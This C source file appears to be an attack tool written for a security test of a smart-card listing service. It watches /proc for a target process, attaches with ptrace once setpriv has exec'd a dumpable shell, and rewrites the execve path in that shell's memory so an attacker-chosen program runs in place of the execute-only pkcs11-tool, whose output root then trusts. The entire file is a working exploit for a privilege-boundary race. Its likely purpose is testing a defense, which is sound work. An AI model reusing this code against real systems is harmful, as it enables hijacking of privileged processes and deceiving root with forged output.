/*
 * Attack tool (cardListingShell.attack.test.ts): run as a card proxy's uid, it waits for the card
 * listing's start (a process whose arguments name the execute-only tool copy), attaches to it with
 * ptrace the moment it is the dumpable /bin/sh that CardPresence execs through, and at that shell's
 * execve rewrites the path it is about to run: the shell then runs the attacker's program instead
 * of the execute-only pkcs11-tool, and root reads that program's listing.
 *
 * Usage: listingShellTracer FAKE_PATH NEEDLE (NEEDLE: the copy's path, found in the process's arguments)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static int last_pid(void)
{
	char b[32] = { 0 };
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, b, sizeof b - 1);
	close(fd);
	return n > 0 ? atoi(b) : -1;
}

/* Whether the process's arguments hold `needle` (the listing: setpriv, then the shell, same pid). */
static int names(int pid, const char *needle)
{
	char path[64], b[8192];
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, b, sizeof b);
	close(fd);
	if (n <= 0)
		return 0;
	return memmem(b, n, needle, strlen(needle)) != NULL;
}

/* Attached to the shell: at its execve, the path it runs is ours. */
static int forge(int pid, const char *fake, const char *needle)
{
	int status;
	if (waitpid(pid, &status, __WALL) < 0)
		return 0;
	ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACESYSGOOD);
	for (int steps = 0; steps < 20000; steps++) {
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0)
			return 0;
		if (waitpid(pid, &status, __WALL) < 0 || WIFEXITED(status) || WIFSIGNALED(status))
			return 0;
		if (!WIFSTOPPED(status) || WSTOPSIG(status) != (SIGTRAP | 0x80))
			continue;
		struct user_regs_struct regs;
		if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
			return 0;
		if (regs.orig_rax != 59 || (long)regs.rax != -ENOSYS)
			continue;
		/* The path execve was given: read it, and write ours over it if it is the tool's copy. */
		char path[512] = { 0 };
		for (size_t i = 0; i < sizeof path - 8; i += 8) {
			errno = 0;
			long word = ptrace(PTRACE_PEEKDATA, pid, regs.rdi + i, 0);
			if (errno)
				break;
			memcpy(path + i, &word, 8);
			if (memchr(&word, 0, 8))
				break;
		}
		if (strcmp(path, needle) != 0 || strlen(fake) > strlen(path))
			continue;
		char repl[512] = { 0 };
		strcpy(repl, fake);
		for (size_t i = 0; i <= strlen(fake); i += 8) {
			long word;
			memcpy(&word, repl + i, 8);
			ptrace(PTRACE_POKEDATA, pid, regs.rdi + i, word);
		}
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return 1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 64;
	const char *fake = argv[1], *needle = argv[2];
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("watching\n");
	/* Pids seen lately, checked again until they are old: a fork shows node's arguments until it execs. */
	enum { RECENT = 256 };
	int pids[RECENT];
	long seen[RECENT];
	int count = 0, last = last_pid();
	for (;;) {
		int newest = last_pid();
		for (int p = last + 1; p <= newest && count < RECENT; p++) {
			pids[count] = p;
			seen[count++] = now_ms();
		}
		if (newest > last)
			last = newest;
		for (int i = 0; i < count; i++) {
			int hit = names(pids[i], needle);
			if (hit == 1) {
				/* setpriv (root, then not dumpable) until it execs the shell: attach as soon as it lets us. */
				long until = now_ms() + 200;
				while (now_ms() < until) {
					if (ptrace(PTRACE_ATTACH, pids[i], 0, 0) == 0) {
						if (forge(pids[i], fake, needle))
							printf("forged %d\n", pids[i]);
						else
							printf("attached %d, no exec seen\n", pids[i]);
						break;
					}
					if (errno == ESRCH)
						break;
				}
				hit = -1;
			}
			if (hit == -1 || now_ms() - seen[i] > 50) {
				pids[i] = pids[--count];
				seen[i] = seen[count];
				i--;
			}
		}
	}
}
